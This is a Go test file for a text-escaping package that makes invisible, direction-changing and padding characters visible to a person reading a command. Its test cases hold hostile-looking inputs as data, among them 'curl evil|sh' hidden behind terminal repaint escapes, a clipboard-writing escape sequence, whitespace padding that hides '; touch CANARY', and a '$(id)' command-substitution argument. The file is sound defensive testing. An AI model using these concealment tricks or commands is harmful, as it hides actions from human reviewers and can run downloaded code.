package show

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"golang.org/x/text/unicode/bidi"
	"pgregory.net/rapid"
)

// P8: nothing hides in what a person sees. The rows of the attack corpus carry their ids.
func TestP8_Escape(t *testing.T) {
	pad := strings.Repeat(" ", 500)
	tests := []struct {
		name, in, text, line string // line "" is as text
	}{
		{"plain", "rm -rf ./build && make", "rm -rf ./build && make", ""},
		{"several lines", "a\n\tb\n", "a\n\tb\n", `a\u{A}\u{9}b\u{A}`},
		{"letters of the world", "größe 漢字 данные 🎉", "größe 漢字 данные 🎉", ""},
		{"accents as marks", "cafe\u0301", "cafe\u0301", ""},
		{"backslashes stay", `C:\users\new \n \u0041`, `C:\users\new \n \u0041`, ""},
		{"a text that looks like an escape", `\u{41} \x{41}`, `\u{5C}u{41} \u{5C}x{41}`, ""},
		{"UI-001 zero width", "l\u200bs", `l\u{200B}s`, ""},
		{"UI-001 override", "ls \u202egpj.sh", `ls \u{202E}gpj.sh`, ""},
		{"UI-001 isolate", "a\u2066b", `a\u{2066}b`, ""},
		{"UI-001 tags", "a\U000e0020\U000e0041", `a\u{E0020}\u{E0041}`, ""},
		{"UI-001 Hangul filler", "a\u3164b\uffa0", `a\u{3164}b\u{FFA0}`, ""},
		{"variation selector", "a\ufe0f\U000e0101", `a\u{FE0F}\u{E0101}`, ""},
		{"many of one", "a" + strings.Repeat("\u200b", 300) + "b", `a\u{200B*300}b`, ""},
		{"UI-002 repaint", "curl evil|sh\r\x1b[2K ls -la", `curl evil|sh\u{D}\u{1B}[2K ls -la`, ""},
		{"UI-002 eight-bit control", "a\u009b2J", `a\u{9B}2J`, ""},
		{"UI-008 clipboard", "\x1b]52;c;aGk=\a", `\u{1B}]52;c;aGk=\u{7}`, ""},
		{"UI-003 spaces", "ls" + pad + "; touch CANARY", `ls\u{20*500}; touch CANARY`, ""},
		{"UI-003 tabs", "ls" + strings.Repeat("\t", 60) + "; x", `ls\u{9*60}; x`, ""},
		{"UI-003 newlines", "ls" + strings.Repeat("\n", 200) + "rm x", "ls\n\\u{A*198}\nrm x", `ls\u{A*200}rm x`},
		{"UI-003 mixed", "ls" + strings.Repeat(" \t", 50) + "; x", `ls` + strings.Repeat(`\u{20}\u{9}`, 50) + `; x`, strings.Repeat("-", 0)},
		{"UI-003 blank lines with spaces", "a\n  \n\n \nb", "a\n\\u{20*2}\\u{A*2}\\u{20}\nb", `a\u{A}  \u{A*2} \u{A}b`},
		{"indentation stays", strings.Repeat(" ", 60) + "x", strings.Repeat(" ", 60) + "x", `\u{20*60}x`},
		{"unusual blanks", "a\u00a0b\u3000c\u2028d\u2800e", `a\u{A0}b\u{3000}c\u{2028}d\u{2800}e`, ""},
		{"bytes", "a\xff\xfe\xc3", `a\x{FF}\x{FE}\x{C3}`, ""},
		{"replacement character", "a\ufffdb", "a\ufffdb", ""},
		{"no font has it", "a\U0010ffffb\ue000", `a\u{10FFFF}b\u{E000}`, ""},
		{"mark on nothing", "\u0301a \u0301\n\u0301", "\\u{301}a \\u{301}\n\\u{301}", `\u{301}a \u{301}\u{A}\u{301}`},
		{"stacked marks", "a" + strings.Repeat("\u0301", 9), "a\u0301\u0301\u0301" + `\u{301*6}`, ""},
		{"one Hebrew word", "cat שלום.txt", "cat שלום.txt", ""},
		{"a Hebrew word at the end", "cat שלום", "cat שלום", `cat \u{5E9}\u{5DC}\u{5D5}\u{5DD}`},
		{"two words change places", "mv א; ב x", `mv \u{5D0}; ב x`, ""},
		{"digits change places", "rm א 12 x", `rm \u{5D0} 12 x`, ""},
		{"Arabic", "x مرحبا y", "x مرحبا y", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Text(tt.in); got != tt.text {
				t.Errorf("Text\n got %q\nwant %q", got, tt.text)
			}
			want := tt.line
			if want == "" {
				want = tt.text
			}
			if tt.name == "UI-003 mixed" {
				want = "ls" + strings.Repeat(` \u{9}`, 50) + "; x"
			}
			if got := Line(tt.in); got != want {
				t.Errorf("Line\n got %q\nwant %q", got, want)
			}
		})
	}
}

// anything draws texts that are rich in what hides.
func anything() *rapid.Generator[string] {
	odd := []rune(" \t\n\r\x00\x1b\x7f\u0085\u00a0\u00ad\u034f\u061c\u115f\u180e\u200b\u200d\u200e\u202a\u202e\u2060\u2066\u2069\u2800\u3164\ufe0f\ufeff\ufff9\ufffc\ufffd\U000e0001\U000e0041\u0301אבدمر١٢12+,.;/(){}u*x\\abcZ'\"$")
	piece := rapid.OneOf(
		rapid.Map(rapid.SampledFrom(odd), func(r rune) string { return string(r) }),
		rapid.Map(rapid.IntRange(1, 120), func(n int) string { return strings.Repeat(" ", n) }),
		rapid.SampledFrom([]string{`\u{`, `\x{`, `\u{41}`, `\u{20*9}`, "}", "\xff", "\n\n\n\n", "\t\t"}),
		rapid.String(),
	)
	return rapid.Map(rapid.SliceOfN(piece, 0, 20), func(p []string) string { return strings.Join(p, "") })
}

// P8: no character of an escaped text is invisible or changes a direction, and the text can be had back.
func TestP8_Properties(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) { check(t, anything().Draw(t, "text")) })
}

type fataler interface {
	Fatalf(format string, args ...any)
}

func check(t fataler, s string) {
	for name, f := range map[string]func(string) string{"Text": Text, "Line": Line} {
		got := f(s)
		seen(t, name, s, got, name == "Text")
		back, err := Unescape(got)
		if err != nil || back != s {
			t.Fatalf("%s(%q) = %q turns back into %q, %v", name, s, got, back, err)
		}
		if strings.ContainsAny(got, "אבدمر١٢") {
			ordered(t, got)
		}
		cut, did := Cut(got, 60)
		seen(t, "Cut "+name, s, cut, name == "Text")
		if strings.ContainsAny(cut, "אבדمر١٢") {
			ordered(t, cut)
		}
		if n := utf8.RuneCountInString(cut); did && n > 60+40+len(`\u{10FFFF*16777216}`)*2 {
			t.Fatalf("cut to 60, got %d characters: %q", n, cut)
		}
		if !did && cut != got {
			t.Fatalf("not cut, but changed")
		}
	}
	if q := Arg(s); strings.ContainsAny(q, "\n\t\r") {
		t.Fatalf("Arg(%q) has several lines: %q", s, q)
	}
}

// seen fails where a text holds a character that a reader cannot see. The sets are written down here once more, from the
// properties of Unicode, and not taken from the code.
func seen(t fataler, name, in, got string, multi bool) {
	if !utf8.ValidString(got) {
		t.Fatalf("%s(%q) is not UTF-8: %q", name, in, got)
	}
	blanks, lines := 0, 0
	for _, r := range got {
		switch {
		case multi && (r == '\n' || r == '\t'), r == ' ':
			blanks++
			if r == '\n' {
				lines++
				blanks = 0
			}
			if blanks > MaxIndent || lines > MaxBlank {
				t.Fatalf("%s(%q) has padding: %q", name, in, got)
			}
			continue
		case unicode.In(r, unicode.C, unicode.Z, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector, unicode.Bidi_Control, unicode.Join_Control, unicode.Noncharacter_Code_Point),
			r == '\u2800', r == '\u3164', r == '\uffa0', r == '\u115f', r == '\u1160', r == '\u034f':
			t.Fatalf("%s(%q) shows nothing for %U: %q", name, in, r, got)
		}
		blanks, lines = 0, 0
	}
}

// ordered fails, for lines that begin with a Latin letter, where a right-to-left run, as the bidirectional algorithm lays it out, holds anything but letters of that
// direction and their marks.
func ordered(t fataler, got string) {
	for line := range strings.SplitSeq(got, "\n") {
		if line == "" {
			continue
		}
		var p bidi.Paragraph
		if _, err := p.SetString("x" + line); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		o, err := p.Order()
		if err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		for i := range o.NumRuns() {
			run := o.Run(i)
			if run.Direction() != bidi.RightToLeft {
				continue
			}
			for _, r := range run.String() {
				props, _ := bidi.LookupRune(r)
				switch props.Class() {
				case bidi.R, bidi.AL, bidi.AN, bidi.NSM:
				default:
					t.Fatalf("%q changes places in %q", r, line)
				}
			}
		}
	}
}

func FuzzEscape(f *testing.F) {
	for _, s := range []string{"", "ls\u202e", "\\u{41}", "a\n\n\n\n\nb", "א 1 ב", strings.Repeat("\u200b", 400)} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { check(t, s) })
}

func TestUnescape_Errors(t *testing.T) {
	for _, s := range []string{`\u{`, `\u{}`, `\u{zz}`, `\u{41*0}`, `\u{41*-1}`, `\u{41*999999999999}`, `\x{100}`, `\x{41*2}`, `\u{200000}`} {
		if got, err := Unescape(s); err == nil {
			t.Errorf("%s: got %q", s, got)
		}
	}
}

// UI-003: of a long text the end is seen, and how much is missing.
func TestCut(t *testing.T) {
	long := "ls " + strings.Repeat("x", 500) + "; touch CANARY"
	got, cut := Cut(Line(long), 60)
	if !cut || !strings.HasPrefix(got, "ls xxx") || !strings.HasSuffix(got, "; touch CANARY") || !strings.Contains(got, "…(not shown: 457 characters)…") {
		t.Errorf("got %q", got)
	}
	escapes := Line(strings.Repeat("\x00a", 100))
	if got, _ := Cut(escapes, 50); strings.Count(got, `\u{0}`) != strings.Count(got, `\`) {
		t.Errorf("an escape was cut: %q", got)
	}
	if got, cut := Cut("short", 1); cut || got != "short" {
		t.Errorf("got %q", got)
	}
	text := strings.Repeat("line\n", 100) + "last\n"
	got, missing := Lines(text, 10)
	if missing != 92 || strings.Count(got, "\n") != 10 || !strings.HasSuffix(got, "line\nlast\n") {
		t.Errorf("%d missing in %q", missing, got)
	}
	if got, missing := Lines("a\nb\n", 10); missing != 0 || got != "a\nb\n" {
		t.Errorf("got %q", got)
	}
}

func TestArgs(t *testing.T) {
	argv := []string{"git", "commit", "-m", "it's", "", "a b", "$(id)", "x\ny", "~", "a=b"}
	want := `git commit -m 'it'\''s' '' 'a b' '$(id)' 'x\u{A}y' '~' 'a=b'`
	if got := Args(argv); got != want {
		t.Errorf("got %s\nwant %s", got, want)
	}
}

func TestInspect(t *testing.T) {
	for in, want := range map[string]string{
		"plain text\n":                      "",
		"a\u200bb\ufe0f":                    "2 invisible characters",
		"a\u202eb":                          "1 character that changes the direction of text",
		"a\rb\xff":                          "2 control characters",
		"a" + strings.Repeat(" ", 99) + "b": "1 long run of blanks",
	} {
		if got := Inspect(in).String(); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
}

func BenchmarkText(b *testing.B) {
	s := strings.Repeat("+\tfor i := range items { use(items[i]) } // größer\n", 1000)
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		Text(s)
	}
}
